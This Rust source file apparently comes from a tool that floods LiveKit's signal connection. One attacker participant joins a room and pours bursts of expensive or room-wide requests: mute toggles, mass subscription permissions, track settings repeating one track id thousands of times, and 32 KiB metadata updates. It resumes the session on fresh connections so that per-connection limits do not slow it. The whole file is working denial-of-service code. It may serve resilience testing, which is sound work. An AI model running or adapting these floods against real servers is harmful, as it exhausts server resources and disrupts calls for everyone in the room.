//! Floods on LiveKit's signal connection: small requests that are dear to serve, or that a whole room is told of.
//!
//! A participant sends a burst as fast as its connection takes it, opens another connection for the same session, and
//! goes on with the next burst: limits of one connection do not hold them back. Where a new connection is refused, the
//! old one serves on.

use std::sync::atomic::Ordering::Relaxed;
use std::time::{Duration, Instant};

use livekit_protocol as proto;
use livekit_protocol::signal_request::Message as Request;
use prost::Message as _;
use tungstenite::Bytes;

use super::{Attack, Course, Target};
use crate::error::Result;
use crate::livekit::{Kind, Signal, add_track};

/// Requests of one burst.
const BURST: usize = 500;
/// A connection that takes nothing for so long is exchanged for another one.
const BLOCKED_MAX: Duration = Duration::from_millis(50);
/// After a refusal to connect again, before the next try.
const REFUSED_WAIT: Duration = Duration::from_millis(100);
/// Track ids in one request, and participants.
const REPEATS: usize = 3000;
const PERMISSIONS: usize = 1000;
/// Metadata of one update, bytes.
const METADATA_BYTES: usize = 32 * 1024;

/// What is asked again and again.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Asked {
    /// A track of their own is muted and unmuted: everybody is told.
    Mutes,
    /// A thousand participants may watch them, then everybody: everybody's subscriptions are decided anew.
    Permissions,
    /// Settings of one track, named thousands of times in one request, and of thousands that nobody publishes.
    Settings,
    /// Their metadata, 32 KiB: everybody is told.
    Metadata,
}

/// One participant asks this as fast as it is taken.
pub fn ask(target: &Target, asked: Asked) -> Attack {
    let target = target.clone();
    let token = target.keys.mint_self_describing(&target.room, "attacker-signals");
    Attack::start(1, move |course| {
        if life(course, &target, &token, asked).is_err() {
            course.counts.refused();
            std::thread::sleep(REFUSED_WAIT);
        }
    })
}

/// From a join until the flood is over, or the server ends it.
fn life(course: &Course, target: &Target, token: &str, asked: Asked) -> Result<()> {
    let (mut signal, join) = Signal::join(&target.http, token, true)?;
    let requests = requests(&mut signal, target, asked)?;
    let sid = join.participant.unwrap_or_default().sid;
    let mut resume_at = Instant::now();
    while !course.is_over() {
        let poured = signal.pour(&requests, BURST, BLOCKED_MAX, |bytes| {
            course.take(bytes);
            course.counts.tries.fetch_add(1, Relaxed);
            course.counts.bytes.fetch_add(bytes as u64, Relaxed);
        });
        // A connection that another one has replaced is ended.
        let ended = poured.is_err();
        if Instant::now() < resume_at {
            poured?;
            continue;
        }
        match Signal::resume(&target.http, token, &sid) {
            Ok(new) => signal = new,
            Err(error) if ended => return Err(error),
            Err(_) => {
                course.counts.refused();
                resume_at = Instant::now() + REFUSED_WAIT;
            }
        }
    }
    signal.leave()
}

/// The requests to repeat in turn.
fn requests(signal: &mut Signal, target: &Target, asked: Asked) -> Result<Vec<Bytes>> {
    let requests = match asked {
        Asked::Mutes => {
            let sid = signal.announce(add_track(Kind::Sound))?;
            [true, false].map(|muted| Request::Mute(proto::MuteTrackRequest { sid: sid.clone(), muted })).to_vec()
        }
        Asked::Permissions => {
            signal.announce(add_track(Kind::Sound))?;
            let only = (0..PERMISSIONS).map(|n| proto::TrackPermission {
                participant_identity: format!("viewer-{n}"),
                all_tracks: true,
                ..Default::default()
            });
            let some = proto::SubscriptionPermission { all_participants: false, track_permissions: only.collect() };
            let all = proto::SubscriptionPermission { all_participants: true, track_permissions: vec![] };
            [some, all].map(Request::SubscriptionPermission).to_vec()
        }
        Asked::Settings => {
            let track = signal.wait("the publisher's track", |heard| {
                heard.tracks.iter().find(|track| track.identity == target.publisher).map(|track| track.sid.clone())
            })?;
            [(320, 180), (1280, 720)]
                .map(|(width, height)| {
                    let track_sids = vec![track.clone(); REPEATS];
                    Request::TrackSetting(proto::UpdateTrackSettings {
                        track_sids,
                        width,
                        height,
                        ..Default::default()
                    })
                })
                .to_vec()
        }
        Asked::Metadata => ["a", "b"]
            .map(|letter| {
                let metadata = letter.repeat(METADATA_BYTES);
                Request::UpdateMetadata(proto::UpdateParticipantMetadata { metadata, ..Default::default() })
            })
            .to_vec(),
    };
    let encode = |request| proto::SignalRequest { message: Some(request) }.encode_to_vec().into();
    Ok(requests.into_iter().map(encode).collect())
}
